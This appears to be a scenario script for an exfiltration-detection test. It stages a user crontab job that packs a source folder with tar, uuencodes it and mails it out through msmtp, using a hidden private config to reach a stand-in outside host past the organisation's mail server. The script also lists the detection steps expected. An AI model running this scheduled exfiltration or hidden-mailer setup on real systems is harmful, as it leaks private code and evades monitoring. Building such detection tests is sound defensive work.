# A mailer with an account of its own, so that the organisation's server never sees the message.
title="msmtp with its own account sends an archive from a user crontab"
what="A crontab line of dev packs ~/src/billing with tar and gzip, encodes it with uuencode and pipes it to msmtp, which reads a configuration file hidden in ~/.config and hands the message to 203.0.113.10 port 587. The organisation's own server is passed by."
host=ws3.example.org user=dev daemons="cron"

setup() {
  mkdir -p /home/dev/src/billing /home/dev/.config/.g; head -c 300000 /dev/urandom > /home/dev/src/billing/core.c
  printf 'account default\nhost mail.example.net\nport 587\nfrom dev@example.net\ntls off\nauth off\n' > /home/dev/.config/.g/rc; chmod 600 /home/dev/.config/.g/rc
  chown -R dev: /home/dev/src /home/dev/.config
  printf '* * * * * tar -C $HOME/src -czf - billing | uuencode b.tgz | msmtp -C $HOME/.config/.g/rc box@example.net\n' > "$base/out/crontab"
}
act() {
  small_talk 2
  crontab -u dev "$base/out/crontab"
  for _ in $(seq 1 150); do grep -q 'CMD.*msmtp' /var/log/recorded && break; sleep 0.5; done
  sleep 5
  crontab -u dev -r
  small_talk 1
}
truth() {
  log_step job 'CRON.*CMD.*msmtp' 'cron starts the job'
  exec_step pack 'tar -C /home/dev/src -czf' 'a folder is packed'
  exec_step encode 'uuencode b.tgz' 'and encoded'
  exec_step send 'msmtp -C /home/dev/.config/.g/rc' 'a mailer with an account of its own'
  net_step connect 'msmtp 203.0.113.10:587' 'past the own server'
}
